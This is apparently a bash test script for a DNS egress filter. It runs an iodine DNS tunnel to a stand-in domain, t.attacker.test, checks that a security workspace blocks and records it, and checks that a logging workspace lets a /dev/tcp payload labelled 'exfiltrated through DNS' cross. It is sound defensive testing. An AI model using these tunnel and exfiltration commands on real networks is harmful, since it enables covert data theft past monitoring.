#!/bin/bash
# A real DNS tunnel (iodine, with its server iodined authoritative for
# t.attacker.test; dnsstack.sh) through egress-dns. From a security
# workspace it never establishes and nothing at all reaches the tunnel's
# server (counted by iptables at its address, so no data-bearing label
# arrived either); from a logging workspace (the positive control: the same
# setup can tunnel) it establishes, carries a payload (a TCP connection through it),
# and every name it asked is recorded.
. "${top_srcdir:-.}/tests/dns/dnsstack.sh"
dnsstack_check_tools || exit $?
dnsstack_enter "$@"

S() { "$STORECTL" "$work/store" "$@" >/dev/null || exit 99; }
mkdir -p "$work/store"
S create-project sec security sec-profile
S create-project log logging log-profile
S rules-replace sec-profile .allowed.test
S map 10.77.1.2 sec
S map 10.77.2.2 log

dnsstack_servers
ws_add sec 10.77.1.2
ws_add log 10.77.2.2
# The limits are off here: they are tested in test-dns.sh, and the
# positive control must show the tunnel itself is possible.
dns_start --rate 0 --names-per-minute 0 --log-decisions

# tunnel NAME SECONDS: run the iodine client in workspace NAME against
# egress-dns for at most SECONDS (until it says the tunnel is up); its
# output in $work/iodine-NAME.log; IODINE_PID. -L0 -I1: poll instead of
# iodine's lazy mode, whose server holds each query longer than a
# recursive resolver waits for it (what a student would pick too).
tunnel() {
    ip netns exec "ws-$1" iodine -f -r -L0 -I1 -P "$TUNNEL_PASSWORD" -d "dns-$1" $DNS_ADDR t.attacker.test \
        >"$work/iodine-$1.log" 2>&1 &
    IODINE_PID=$!
    DNS_PIDS="$DNS_PIDS $IODINE_PID"
    for i in $(seq 1 $(($2 * 5))); do
        grep -q 'Connection setup complete' "$work/iodine-$1.log" && return 0
        kill -0 $IODINE_PID 2>/dev/null || return 1
        sleep 0.2
    done
    return 1
}

echo "--- security workspace"
before=$(iodined_packets)
if tunnel sec 15; then
    fail "the tunnel does not establish" "$(tail -5 "$work/iodine-sec.log")"
else
    ok "the tunnel does not establish"
fi
kill -TERM $IODINE_PID 2>/dev/null
stack_wait_gone $IODINE_PID 5
tail -3 "$work/iodine-sec.log"
expect_eq "not one packet reached the tunnel's server" "$(iodined_packets)" "$before"
asked=$(grep -c ' DNS [^ ]*\.t\.attacker\.test from 10\.77\.1\.2' "$DNS_LOG")
[ "$asked" -gt 0 ] && ok "the client did try ($asked names asked)" || fail "the client did try" "no query seen"
expect_no_match "each of them was blocked" "$(grep ' from 10\.77\.1\.2' "$DNS_LOG")" '^egress-dns: allow DNS [^ ]*\.t\.attacker\.test'
sleep 0.3
denied=$("$STORECTL" "$work/store" seen sec | awk '$1 ~ /\.t\.attacker\.test$/ && $7 == "deny"' | wc -l)
[ "$denied" -gt 0 ] && ok "its names are recorded as denied ($denied)" || fail "its names are recorded as denied" "none"

echo "--- logging workspace (positive control)"
if tunnel log 30; then
    ok "the tunnel establishes"
else
    fail "the tunnel establishes" "$(tail -5 "$work/iodine-log.log")"
fi
# A payload through the tunnel: a TCP connection from the workspace to a
# listener on the tunnel server's own end (10.53.0.1), which writes what it got.
python3 -c '
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("10.53.0.1", 7777)); s.listen(4); s.settimeout(60)
c, _ = s.accept(); c.settimeout(30); data = b""
while not data.endswith(b"\n"):
    d = c.recv(100)
    if not d: break
    data += d
open(sys.argv[1], "wb").write(data)
' "$work/payload" &
listener=$!
DNS_PIDS="$DNS_PIDS $listener"
sleep 0.5
# A tunnel over polled DNS on a loaded machine can drop a SYN: three tries.
for try in 1 2 3; do
    ip netns exec ws-log timeout 15 bash -c 'exec 3<>/dev/tcp/10.53.0.1/7777 && echo "exfiltrated through DNS" >&3' \
        2>>"$work/payload-client.log" && break
done
stack_wait_gone $listener 60 >/dev/null 2>&1
expect_eq "a payload crosses it" "$(cat "$work/payload" 2>/dev/null)" "exfiltrated through DNS"
kill -TERM $IODINE_PID 2>/dev/null
stack_wait_gone $IODINE_PID 5
[ "$(iodined_packets)" -gt "$before" ] && ok "the tunnel's server received its queries" ||
    fail "the tunnel's server received its queries" "no packet"
# Every name egress-dns decided for the logging workspace is in its recorded hosts.
grep ' from 10\.77\.2\.2' "$DNS_LOG" | sed -n 's/^egress-dns: allow DNS \([^ ]*\) from .*/\1/p' | sort -u >"$work/asked"
dns_stop
"$STORECTL" "$work/store" seen log | awk '{print $1}' | sort -u >"$work/recorded"
n=$(wc -l <"$work/asked")
[ "$n" -gt 20 ] && ok "it asked many names ($n)" || fail "it asked many names" "$n"
expect_eq "every name it asked is recorded" "$(comm -23 "$work/asked" "$work/recorded" | head -5)" ""
finish
